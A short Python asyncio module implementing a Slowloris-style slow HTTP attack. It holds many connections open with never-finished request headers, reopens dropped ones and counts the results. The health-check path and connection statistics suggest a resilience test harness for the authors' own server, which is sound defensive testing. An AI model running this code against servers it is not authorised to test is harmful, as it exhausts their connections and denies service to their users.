"""Slowloris: keep `count` connections to an HTTP server open, each with a request that never
ends; a connection the server closes is opened again REOPEN_S later (slowloris itself
re-opens dropped connections every 15 s)."""

from __future__ import annotations

import asyncio
from dataclasses import dataclass

HALF_REQUEST = b"GET /healthz HTTP/1.1\r\nHost: edumon\r\nX-Never: end"
REOPEN_S = 5.0


@dataclass
class IdleStats:
    opened: int = 0
    closed_by_server: int = 0
    refused: int = 0  # connect() failed


async def hold_half_sent(host: str, port: int, count: int, stats: IdleStats) -> None:
    """Run until cancelled."""
    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(_one(host, port, stats))


async def _one(host: str, port: int, stats: IdleStats) -> None:
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats.refused += 1
            await asyncio.sleep(REOPEN_S)
            continue
        stats.opened += 1
        try:
            writer.write(HALF_REQUEST)
            await reader.read()  # until the server closes it
            stats.closed_by_server += 1
        except OSError:
            stats.closed_by_server += 1
        finally:
            writer.close()
        await asyncio.sleep(REOPEN_S)
